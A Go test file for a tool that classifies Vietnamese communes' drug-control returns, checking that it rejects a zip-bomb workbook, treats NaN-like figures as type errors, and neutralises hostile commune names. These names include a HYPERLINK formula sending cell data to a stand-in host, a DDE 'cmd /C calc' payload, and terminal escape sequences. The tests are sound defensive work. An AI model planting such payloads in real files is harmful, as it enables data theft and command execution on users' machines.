package cmd

import (
	"archive/zip"
	"drugfree/internal/testkit"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// declareHuge rewrites the workbook at path so that its zip directory declares 64 GiB
// for its largest worksheet, its bytes unchanged (a "zip bomb" of a few KB).
func declareHuge(t *testing.T, path string) {
	t.Helper()
	zr, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	largest := ""
	var size uint64
	for _, f := range zr.File {
		if strings.HasPrefix(f.Name, "xl/worksheets/") && f.UncompressedSize64 > size {
			largest, size = f.Name, f.UncompressedSize64
		}
	}
	zr.Close()
	testkit.DeclareSize(t, path, largest, 64<<30)
}

// One file whose directory declares a 64 GiB sheet, in a consolidation: refused as
// too-large, naming the file and how to raise the limit, and the other returns are
// consolidated exactly as without it.
func TestE2EConsolidateWithZipBomb(t *testing.T) {
	dir := sampleCopy(t)
	returns := sampleReturns(t, dir)
	copyFile(t, filepath.Join(dir, returns[0]), filepath.Join(dir, "returns", "bom.xlsx"))
	declareHuge(t, filepath.Join(dir, "returns", "bom.xlsx"))
	args := func(out string, files ...string) []string {
		a := append([]string{"consolidate", "--lang", "en"}, files...)
		return append(a, "--register", "returns/register.csv", "--as-of", "2025-12-20", "--partial", "-o", out)
	}
	code, _, errOut := bin(t, dir, args("with.xlsx", append(slices.Clone(returns), "returns/bom.xlsx")...)...)
	if code != ExitData {
		t.Errorf("exit %d, want %d:\n%s", code, ExitData, errOut)
	}
	var bomb []string
	for _, line := range strings.Split(errOut, "\n") {
		if strings.Contains(line, "bom.xlsx") {
			bomb = append(bomb, line)
		}
	}
	if len(bomb) != 1 || !strings.Contains(bomb[0], "too-large") || !strings.Contains(bomb[0], "--limits inflated=") {
		t.Errorf("want one too-large line for bom.xlsx saying how to raise the limit, got %q", bomb)
	}
	if _, _, errOut := bin(t, dir, args("without.xlsx", returns...)...); !exists(filepath.Join(dir, "without.xlsx")) {
		t.Fatalf("without the bomb, nothing written:\n%s", errOut)
	}
	with, without := filepath.Join(dir, "with.xlsx"), filepath.Join(dir, "without.xlsx")
	// every sheet opens with the banner, which counts the errors; past it, the
	// classification and the calendar are the same
	for _, s := range []string{"Classification", "Timeliness"} {
		a, b := sheetRows(t, with, s), sheetRows(t, without, s)
		if len(a) < 2 || !strings.Contains(a[0][0], "files too large: 1") {
			t.Fatalf("sheet %s: no banner counting the too-large error: %q", s, a)
		}
		if !slices.EqualFunc(a[1:], b[1:], slices.Equal) {
			t.Errorf("sheet %s differs with the bomb among the files", s)
		}
	}
}

func sheetNames(t *testing.T, path string) []string {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	return f.GetSheetList()
}

// A text figure that strconv would take but is no decimal number (NaN, Inf, 0x1p4, …) is
// a type-error at its cell, not a figure: a NaN hotspot does not make a drug-free
// commune Loại I, through the binary.
func TestE2ENaNHotspotIsTypeError(t *testing.T) {
	dir := t.TempDir()
	header := []any{"Xã, phường, thị trấn", "Dân số", "Tổng số người nghiện", "Người nghiện có hồ sơ quản lý",
		"Người sử dụng trái phép chất ma túy", "Tụ điểm, điểm phức tạp, bán lẻ ma túy", "Số cây có chứa chất ma túy",
		"Diện tích trồng cây có chứa chất ma túy (m²)", "Đối tượng phạm tội về ma túy", "Vụ vi phạm khác về ma túy",
		"Nằm trên tuyến trọng điểm (Có/Không)"}
	cover := [][]any{{"Đơn vị báo cáo", "Thành phố Trà Vinh"}, {"Loại báo cáo", "Rà soát"}, {"Số văn bản", "1/BC"}, {"Ngày báo cáo", "20/02/2025"}}
	for _, hotspots := range []string{"NaN", "Inf", "Infinity", "1_000", "0x1p4", "4.9e-324", "0"} {
		t.Run(hotspots, func(t *testing.T) {
			writeBook(t, filepath.Join(dir, "r.xlsx"),
				sheetSpec{name: "Thông tin", rows: cover},
				sheetSpec{name: "Số liệu", rows: [][]any{header, {"Phường 4", 9876, 0, 0, 0, hotspots, 0, 0, 0, 0, "Không"}}})
			_, out, errOut := bin(t, dir, "classify", "--format", "json", "--lang", "en", "r.xlsx")
			var got classifyJSON
			if err := json.Unmarshal([]byte(out), &got); err != nil {
				t.Fatalf("%v\n%s", err, errOut)
			}
			category := ""
			for _, c := range got.Communes {
				if c.Code == "29236" {
					category = c.Category
				}
			}
			var typeErrors []string
			for _, p := range got.Problems {
				if p.Code == "type-error" {
					typeErrors = append(typeErrors, p.Sheet+"!"+p.Cell)
				}
			}
			switch {
			case hotspots == "0":
				if category != "drug-free" || len(typeErrors) != 0 {
					t.Errorf("hotspots 0: category %q, type errors %v; want drug-free, none", category, typeErrors)
				}
			case category == "type-1" || !slices.Equal(typeErrors, []string{"Số liệu!F2"}):
				t.Errorf("hotspots %q: category %q, type errors %v; want not type-1, one type-error at Số liệu!F2\n%s", hotspots, category, typeErrors, errOut)
			}
		})
	}
}

// validate --format csv does not write a text a spreadsheet would run: a commune cell
// "=HYPERLINK(…)", "+1+1", "@SUM(1)" or "-1+1" comes out with a leading apostrophe
// (OWASP), and a table on the terminal shows a name's ESC, BEL and newline as escapes.
func TestE2ECSVInjectionAndControlCharacters(t *testing.T) {
	dir := t.TempDir()
	header := []any{"Xã, phường, thị trấn", "Dân số", "Tổng số người nghiện"}
	names := []string{`=HYPERLINK("http://x.example/?"&A1,"Bấm")`, "+1+1", "@SUM(1)", "-1+1", "=cmd|' /C calc'!A0"}
	rows := [][]any{header}
	for _, n := range names {
		rows = append(rows, []any{n, 100, 1})
	}
	cover := [][]any{{"Đơn vị báo cáo", "Thành phố Trà Vinh"}, {"Loại báo cáo", "Rà soát"}, {"Ngày báo cáo", "20/02/2025"}}
	writeBook(t, filepath.Join(dir, "r.xlsx"), sheetSpec{name: "Thông tin", rows: cover}, sheetSpec{name: "Số liệu", rows: rows})
	_, out, errOut := bin(t, dir, "validate", "--format", "csv", "r.xlsx")
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(records) < 2 {
		t.Fatalf("csv: %v\n%s\n%s", err, out, errOut)
	}
	col := slices.Index(records[0], "commune")
	seen := map[string]bool{}
	for _, rec := range records[1:] {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
		seen[rec[col]] = true
	}
	for _, n := range names {
		if !seen["'"+n] {
			t.Errorf("commune %q not written as '%s; communes: %v", n, n, seen)
		}
	}

	// ESC, BEL, a newline in a name (a CSV return holds them as they are)
	writeText(t, filepath.Join(dir, "r.csv"), "Huyện,Xã,Dân số,Tổng số người nghiện\n"+
		"Thành phố Trà Vinh,\"Phường\x1b[2J\x07 4\nlỗi giả: forged\",100,-2\n")
	for _, args := range [][]string{{"validate", "r.csv"}, {"classify", "r.csv"}} {
		_, out, errOut := bin(t, dir, args...)
		for _, text := range []string{out, errOut} {
			if strings.ContainsAny(text, "\x1b\x07") {
				t.Errorf("%v: a control character reaches the terminal:\n%q", args, text)
			}
			for _, line := range strings.Split(text, "\n") {
				if strings.HasPrefix(line, "lỗi giả") {
					t.Errorf("%v: a forged line: %q", args, line)
				}
			}
		}
		if !strings.Contains(out+errOut, `Phường\x1b[2J\x07 4\nlỗi giả: forged`) {
			t.Errorf("%v: the name is not shown escaped:\n%s%s", args, out, errOut)
		}
	}
}

// A file given twice is read once and said so (not superseded by itself); an empty file
// gets a message of its own, and the other files are read. (A folder given as an input
// means the returns in it: inputs_glob.txtar.)
func TestE2EFileTwiceEmptyAndFolder(t *testing.T) {
	dir := sampleCopy(t)
	one := sampleReturns(t, dir)[0]
	writeText(t, filepath.Join(dir, "empty.xlsx"), "")
	_, out, errOut := bin(t, dir, "validate", "--lang", "en", "--format", "csv", one, "./"+one, "empty.xlsx")
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("%v\n%s", err, errOut)
	}
	var superseded, empty []string
	for _, r := range records[1:] {
		switch code, file, msg := r[1], r[3], r[8]; {
		case code == "superseded":
			superseded = append(superseded, file+": "+msg)
		case file == "empty.xlsx":
			empty = append(empty, code+": "+msg)
		}
	}
	if len(superseded) != 1 || !strings.Contains(superseded[0], "./"+one+": This file is given already ("+one+")") {
		t.Errorf("superseded: %q", superseded)
	}
	if len(empty) != 1 || !strings.Contains(empty[0], "unreadable-file: The file is empty") {
		t.Errorf("empty file: %q", empty)
	}
}
